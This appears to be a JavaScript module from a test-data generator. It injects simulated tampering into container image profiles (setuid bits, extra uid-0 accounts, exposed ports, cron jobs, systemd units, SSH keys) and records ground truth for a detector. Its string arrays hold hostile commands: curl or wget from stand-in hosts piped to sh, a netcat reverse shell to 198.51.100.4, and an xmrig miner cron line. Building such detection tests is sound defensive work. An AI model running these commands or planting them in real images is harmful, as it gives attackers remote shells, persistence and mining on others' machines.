// Injections into permissions, accounts, the image config, size and persistence points. Same contract as
// inject-packages.mjs: change the profile, return what was done and the ground truth.
import { fingerprint, sha } from './prng.mjs';

const WORLD_WRITABLE = ['/etc/profile.d', '/usr/local/bin', '/etc/ld.so.preload', '/app/config', '/var/www', '/opt/plugins', '/usr/local/lib'];
const NEW_USERS = ['svc', 'deploy', 'support', 'backup2', 'ftpuser', 'jenkins', 'debug', 'monitor'];
const ROOT_ALIASES = ['toor', 'sysadm', 'r00t', 'admin'];
const PORTS = ['22/tcp', '4444/tcp', '2375/tcp', '5900/tcp', '6379/tcp', '9229/tcp', '31337/tcp', '8888/tcp', '1080/tcp', '53/udp'];
const ENTRYPOINTS = [
  ['/bin/sh', '-c', 'curl -fsSL https://get.example/i.sh | sh; exec "$@"', '--'], ['/tmp/.init'], ['/usr/local/bin/entry.sh'],
  ['/bin/sh', '-c', 'wget -qO- http://203.0.113.7/x | sh & exec "$@"', '--'],
];
const CMDS = [
  ['sh', '-c', 'node /app/server.js & /tmp/.x'], ['/bin/sh', '-c', 'nc -e /bin/sh 198.51.100.4 4444'], ['python', '-c', 'import pty; pty.spawn("/bin/sh")'],
  ['node', '/app/worker.js'], ['gunicorn', '-b', '0.0.0.0:8000', '--reload', 'app.wsgi:app'], ['sleep', 'infinity'],
];
const SYSTEMD_UNITS = [
  '/etc/systemd/system/kworker.service', '/lib/systemd/system/dbus-helper.service',
  '/etc/systemd/system/multi-user.target.wants/sys-update.service', '/etc/systemd/system/netd.timer',
];

function cronLines(distro) {
  return distro === 'debian'
    ? [
      '/etc/cron.d/sys-update: */5 * * * * root curl -fsS http://c2.example/p | sh',
      '/var/spool/cron/crontabs/root: @reboot /tmp/.x',
      '/etc/cron.d/0hourly: 0 * * * * root /usr/lib/.cache/kthreadd',
    ]
    : [
      '/etc/crontabs/root: */10 * * * * wget -qO- http://update.example/s | sh',
      '/etc/crontabs/root: @reboot /tmp/.x',
      '/etc/crontabs/app: * * * * * /usr/local/bin/xmrig --background',
    ];
}

function setBit(bit, field, kind) {
  return ({ build, rng }) => {
    const p = build.profile;
    const target = rng.pick(p.executables.filter((e) => !(e.mode & 0o6000) && !e.path.startsWith('/app/')));
    target.mode |= bit;
    return { what: `${field} bit on ${target.path}`, truth: [{ kind, field: 'path', value: target.path }] };
  };
}

function setting(name, pool, truthKind) {
  return ({ build, rng }) => {
    const c = build.profile.config;
    const value = rng.pick(pool.filter((v) => JSON.stringify(v) !== JSON.stringify(c[name])));
    c[name] = value;
    return { what: `${name} → ${JSON.stringify(value)}`, truth: [{ kind: truthKind, field: 'setting', value: name }] };
  };
}

export const SYSTEM_INJECTIONS = {
  setuid_added: setBit(0o4000, 'setuid', 'setuid_added'),
  setgid_added: setBit(0o2000, 'setgid', 'setgid_added'),

  world_writable_added({ build, rng }) {
    const p = build.profile;
    const path = rng.pick(WORLD_WRITABLE.filter((x) => !p.worldWritable.includes(x)));
    p.worldWritable.push(path);
    return { what: `chmod o+w ${path}`, truth: [{ kind: 'world_writable_added', field: 'path', value: path }] };
  },

  user_added({ build, spec, rng }) {
    const p = build.profile;
    const name = rng.pick(NEW_USERS.filter((n) => !p.users.some((u) => u.name === n)));
    const uid = rng.int(1001, 1099);
    p.users.push({ name, uid, gid: uid, home: `/home/${name}`, shell: spec.distro === 'debian' ? '/bin/bash' : '/bin/sh' });
    return { what: `useradd ${name}`, truth: [{ kind: 'user_added', field: 'user', value: name }] };
  },

  // Either a new account with uid 0 (it is also a new account) or the application's account moved to uid 0.
  uid0_extra({ build, rng }) {
    const p = build.profile;
    if (rng.chance(0.6)) {
      const name = rng.pick(ROOT_ALIASES);
      p.users.push({ name, uid: 0, gid: 0, home: '/root', shell: '/bin/sh' });
      const truth = [{ kind: 'uid0_extra', field: 'user', value: name }, { kind: 'user_added', field: 'user', value: name }];
      return { what: `new uid 0 account ${name}`, truth };
    }
    const app = p.users.find((u) => u.name === 'app');
    app.uid = 0;
    return { what: 'account app moved to uid 0', truth: [{ kind: 'uid0_extra', field: 'user', value: 'app' }] };
  },

  port_added({ build, rng }) {
    const c = build.profile.config;
    const port = rng.pick(PORTS.filter((x) => !c.exposedPorts.includes(x)));
    c.exposedPorts.push(port);
    c.exposedPorts.sort();
    return { what: `EXPOSE ${port}`, truth: [{ kind: 'port_added', field: 'port', value: port }] };
  },

  entrypoint_changed: setting('entrypoint', ENTRYPOINTS, 'entrypoint_changed'),
  cmd_changed: setting('cmd', CMDS, 'cmd_changed'),
  // Mostly to root (no USER, `root`, `0`), sometimes to another account of the base image.
  user_changed: setting('user', [null, 'root', '0', null, 'root', '0', 'nobody', 'daemon'], 'user_changed'),

  size_jump({ build, rng }) {
    const p = build.profile;
    const share = rng.chance(0.75) ? rng.real(0.12, 0.6) : -rng.real(0.15, 0.35);
    const bytes = Math.round(share * p.totalSize);
    if (bytes > 0) {
      p.layers.push({ digest: `sha256:${sha(`blob ${bytes}`)}`, size: bytes });
    } else {
      // A slimmer image: everything above the distribution's base layer shrinks (a runtime or toolchain left out).
      const above = p.layers.slice(1).reduce((s, l) => s + l.size, 0);
      for (const layer of p.layers.slice(1)) layer.size = Math.round(layer.size * (1 + bytes / above));
    }
    return { what: `image size ${share > 0 ? '+' : ''}${(share * 100).toFixed(0)} %`, truth: [{ kind: 'size_jump' }] };
  },

  file_count_jump({ build, rng }) {
    const p = build.profile;
    const files = Math.round(rng.real(0.08, 0.3) * p.fileCount);
    const dir = rng.pick(['/opt', '/tmp', '/usr', '/app']);
    p.filesPerTopDir[dir] = (p.filesPerTopDir[dir] ?? 0) + files;
    // Many small files (a vendored tree, a cache): they add little compressed size, so no size jump comes with them.
    p.layers[4].size += files * rng.int(50, 250);
    return { what: `${files} more files under ${dir}`, truth: [{ kind: 'file_count_jump' }] };
  },

  cron_added({ build, spec, rng }) {
    const line = rng.pick(cronLines(spec.distro));
    build.profile.persistence.cron.push(line);
    return { what: `cron ${line}`, truth: [{ kind: 'cron_added', field: 'entry', value: line }] };
  },

  systemd_unit_added({ build, rng }) {
    const path = rng.pick(SYSTEMD_UNITS);
    build.profile.persistence.systemdUnits.push(path);
    return { what: `unit ${path}`, truth: [{ kind: 'systemd_unit_added', field: 'path', value: path }] };
  },

  authorized_key_added({ build, rng }) {
    const file = rng.pick(['/root/.ssh/authorized_keys', '/home/app/.ssh/authorized_keys']);
    const entry = `${file}: ${rng.pick(['ssh-ed25519', 'ssh-rsa'])} SHA256:${fingerprint(`key ${rng.next()}`)}`;
    build.profile.persistence.authorizedKeys.push(entry);
    return { what: `key in ${file}`, truth: [{ kind: 'authorized_key_added', field: 'entry', value: entry }] };
  },
};
